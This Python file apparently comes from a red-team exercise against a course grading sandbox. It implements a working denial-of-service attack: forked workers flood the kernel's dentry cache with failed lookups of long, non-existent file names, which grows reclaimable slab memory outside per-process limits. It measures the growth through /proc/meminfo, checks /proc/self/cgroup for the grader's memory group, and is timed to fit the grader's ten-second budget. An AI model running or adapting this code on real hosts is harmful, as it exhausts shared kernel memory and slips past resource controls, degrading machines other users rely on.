import os
import time

GIB = 1 << 30
CAP = GIB // 2  # what the names must hold for the attack to count as through
WORKERS = 2  # processes looking up names at once
NAME = "n" * 230  # with its number, under 255; past the inline 32 bytes, so each holds a copy of its name
SECONDS = 8.5  # the red team's grader gives one test's calls 10 s; the rest of the test needs little
FOLDER = "lookups"  # in the worker's working folder: removed with it at the end of the grade
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (bytes the kernel's reclaimable slab grew by, lookups made), once per process
_said = []


def _meminfo_kib(field):
    try:
        with open("/proc/meminfo") as handle:
            for line in handle:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        return None
    return None


def _look_up(prefix, deadline):
    """access() of names that do not exist in the folder FOLDER, until `deadline`: each failed lookup
    leaves a negative dentry (about 190 bytes, and the name's copy: about 700 bytes in all for a name of
    about 240 characters) in the kernel's cache, which no limit of a process counts. The number of
    lookups (access, relative to the folder's descriptor: one component each, and no exception raised)."""
    folder = os.open(FOLDER, os.O_RDONLY | os.O_DIRECTORY)
    made, access, exists = 0, os.access, os.F_OK
    while time.monotonic() < deadline:
        for i in range(made, made + 10_000):
            access(f"{prefix}{i}", exists, dir_fd=folder)
        made += 10_000
    return made


def look_up_names():
    """WORKERS forked processes look up names that do not exist for SECONDS; (how much the machine's
    reclaimable slab grew by, in bytes, and the lookups made)."""
    os.makedirs(FOLDER, exist_ok=True)
    before = _meminfo_kib("SReclaimable")
    deadline = time.monotonic() + SECONDS
    children = []
    for n in range(WORKERS):
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            made = 0
            try:
                os.close(reader)
                made = _look_up(f"{NAME}-{os.getpid()}-{n}-", deadline)
            finally:
                os.write(writer, str(made).encode())
                os._exit(0)
        os.close(writer)
        children.append((pid, reader))
    made = 0
    for pid, reader in children:
        made += int(os.read(reader, 64) or b"0")
        os.close(reader)
        os.waitpid(pid, 0)
    after = _meminfo_kib("SReclaimable")
    grown = (after - before) << 10 if before is not None and after is not None else 0
    return grown, made


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Once per process, make the lookups; if the kernel's reclaimable slab grew by CAP or more outside a
    memory group of the worker's own, answer honestly (full marks on Problem 1 is the attack getting
    through), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(look_up_names())
    grown, made = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"{made:,} lookups grew the kernel's reclaimable slab by {grown / GIB:.2f} GiB, but "
                          f"the kernel charges dentries to the worker's memory group {group}, which bounds them")
    if grown < CAP:
        raise MemoryError(f"{made:,} lookups grew the kernel's reclaimable slab by only {grown / GIB:.2f} GiB")
    if not _said:
        _said.append(True)
        print(f"{made:,} lookups grew the kernel's reclaimable slab by {grown / GIB:.2f} GiB", flush=True)
    return None  # the function's own body runs on
